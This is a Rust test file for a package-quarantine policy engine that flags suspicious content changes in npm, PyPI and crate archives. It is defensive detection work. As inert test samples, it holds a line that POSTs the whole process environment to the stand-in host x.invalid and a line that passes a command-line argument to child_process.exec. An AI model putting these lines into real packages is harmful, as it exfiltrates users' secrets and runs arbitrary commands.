//! The shapes of known hijacks, inert and written for this: what the version before did, what the
//! bad one newly does, and that the rules hold the one and not the other.

#[path = "content/honest.rs"]
mod honest;
#[path = "content/incidents.rs"]
mod incidents;
mod support;
#[path = "content/techniques.rs"]
mod techniques;

use std::sync::{Arc, LazyLock, Mutex, PoisonError};

use cordon_policy::ecosystem::schemes;
use cordon_policy::facts::Fact;
use cordon_policy::inspect::Limits;
use cordon_policy::inspect::archive::{Looked, Member, Sink};
use cordon_policy::inspect::content::{ContentChange, ContentFacts, KnownFiles, Looker};
use cordon_policy::model::{
    ArtifactId, ArtifactKind, FileName, PackageVersion, PurlTarget, Version, parse_purl,
};
use cordon_policy::verdict::{Effect, Evaluation};
use sha2::Digest as _;
use support::*;

/// Files by path below the archive's folder.
type Files<'a> = &'a [(&'a str, &'a str)];

/// What the files can do. It makes no difference which were read before.
fn look(ecosystem: &str, files: Files<'_>) -> ContentFacts {
    static KNOWN: LazyLock<Mutex<KnownFiles>> = LazyLock::new(Mutex::default);
    let facts = look_with(ecosystem, files, &mut KnownFiles::default());
    let mut known = KNOWN.lock().unwrap_or_else(PoisonError::into_inner);
    for _ in 0..2 {
        assert_eq!(look_with(ecosystem, files, &mut known), facts);
    }
    facts
}

fn look_with(ecosystem: &str, files: Files<'_>, known: &mut KnownFiles) -> ContentFacts {
    let purl = format!("pkg:{ecosystem}/x@1.0.0");
    let PurlTarget { name, version } = parse_purl(&purl, &schemes()).expect("a purl");
    let file = match ecosystem {
        "npm" => "x-1.0.0.tgz",
        "pypi" => "x-1.0.0.tar.gz",
        _ => "x-1.0.0.crate",
    };
    let artifact = ArtifactId {
        subject: PackageVersion {
            name,
            version: version.expect("a version"),
        },
        file: FileName::new(file).expect("a file name"),
        kind: ArtifactKind::Archive,
    };
    let mut looker = Looker::new(&artifact, &Limits::default(), known);
    for (path, text) in files {
        let path = format!("package/{path}");
        let member = Member {
            path: &path,
            size_bytes: text.len() as u64,
            mode: 0o644,
        };
        let wanted = usize::try_from(looker.wants(&member)).expect("fits");
        assert!(wanted >= text.len().min(64), "{path}");
        let digest: [u8; 32] = sha2::Sha256::digest(text.as_bytes()).into();
        looker.file(Looked {
            member: &member,
            sha256: digest,
            bytes: &text.as_bytes()[..text.len().min(wanted)],
        });
    }
    looker.finish(None, &mut Vec::new())
}

/// Judges a version of an hour ago by what it changes.
fn judge_change(ecosystem: &str, before: Files<'_>, after: Files<'_>) -> Evaluation {
    let (before, after) = (look(ecosystem, before), look(ecosystem, after));
    let change = ContentChange::between(Version::verbatim("1.0.0"), &before, &after);
    let mut facts = fetched(&format!("pkg:{ecosystem}/x@1.1.0"));
    facts.published_at = Fact::Known(at(-HOUR));
    facts.content_change = Fact::Known(Arc::new(change));
    policy("[rules.content-change]\n").evaluate(&facts, NOW)
}

/// Judges the first version of a package of an hour ago.
fn judge_new(ecosystem: &str, files: Files<'_>) -> Evaluation {
    let mut facts = fetched(&format!("pkg:{ecosystem}/x@1.1.0"));
    let mut package = (*facts.package).clone();
    package.first_published_at = Fact::Known(at(-HOUR));
    facts.package = Arc::new(package);
    facts.content = Fact::Known(Arc::new(look(ecosystem, files)));
    policy("[rules.content]\n").evaluate(&facts, NOW)
}

/// The codes and reasons of what stops it.
fn told(evaluation: &Evaluation) -> Vec<(String, String)> {
    let counting = evaluation
        .findings()
        .iter()
        .filter(|it| it.mode == cordon_policy::finding::Mode::Enforce);
    counting
        .map(|it| (it.code.to_string(), it.reason.clone()))
        .collect()
}

/// Held, by that code, with that file and line in some reason.
fn is_held(id: &str, evaluation: &Evaluation, code: &str, place: &str) {
    let told = told(evaluation);
    assert_eq!(evaluation.effect(), Effect::Quarantine, "{id}: {told:?}");
    let is_told = told
        .iter()
        .any(|(it, reason)| it == code && reason.contains(place));
    assert!(is_told, "{id}: no {code} at {place} in {told:#?}");
}

fn is_allowed(id: &str, evaluation: &Evaluation) {
    let told = told(evaluation);
    assert_eq!(evaluation.effect(), Effect::Allow, "{id}: {told:?}");
}

#[test]
fn the_same_bytes_give_the_same_facts_and_change_nothing() {
    let files: Files<'_> = &[(
        "index.js",
        "require('child_process').exec(process.argv[2])\n",
    )];
    assert_eq!(look("npm", files), look("npm", files));
    let facts = look("npm", files);
    let change = ContentChange::between(Version::verbatim("1.0.0"), &facts, &facts);
    assert!(change.is_empty(), "{change:?}");
    let text = serde_json::to_string(&facts).unwrap();
    assert_eq!(serde_json::from_str::<ContentFacts>(&text).unwrap(), facts);
}

#[test]
fn what_is_not_known_holds_and_what_is_old_is_not_asked_for() {
    use cordon_policy::facts::FactKind;
    let ruleset = policy("[rules.content-change]\n[rules.content]\n");
    let mut facts = fetched("pkg:npm/x@1.1.0");
    assert!(ruleset.wants(&facts, NOW).is_empty());
    is_allowed("old", &ruleset.evaluate(&facts, NOW));
    facts.published_at = Fact::Known(at(-HOUR));
    facts.content_change = Fact::NotYet;
    assert!(ruleset.wants(&facts, NOW).contains(FactKind::ContentChange));
    assert!(!ruleset.wants(&facts, NOW).contains(FactKind::Content));
    assert!(
        ruleset
            .evaluate(&facts, NOW)
            .awaits()
            .contains(FactKind::ContentChange)
    );
    facts.content_change = Fact::Unavailable("the worker died".into());
    is_held(
        "unknown",
        &ruleset.evaluate(&facts, NOW),
        "content-change-unknown",
        "the worker died",
    );
}

#[test]
fn signs_can_be_watched_or_ignored() {
    let source =
        "fetch('https://x.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n";
    let (before, after) = (look("npm", &[]), look("npm", &[("index.js", source)]));
    let change = ContentChange::between(Version::verbatim("1.0.0"), &before, &after);
    let mut facts = fetched("pkg:npm/x@1.1.0");
    facts.published_at = Fact::Known(at(-HOUR));
    facts.content_change = Fact::Known(Arc::new(change));
    for (settings, count, effect) in [
        (
            "watch = []\nignore = ['destination']",
            1,
            Effect::Quarantine,
        ),
        (
            "watch = ['environment-sent', 'destination']",
            2,
            Effect::Allow,
        ),
        (
            "ignore = ['environment-sent', 'destination']",
            0,
            Effect::Allow,
        ),
    ] {
        let ruleset = policy(&format!("[rules.content-change]\n{settings}\n"));
        let evaluation = ruleset.evaluate(&facts, NOW);
        assert_eq!(evaluation.findings().len(), count, "{settings}");
        assert_eq!(evaluation.effect(), effect, "{settings}");
    }
}
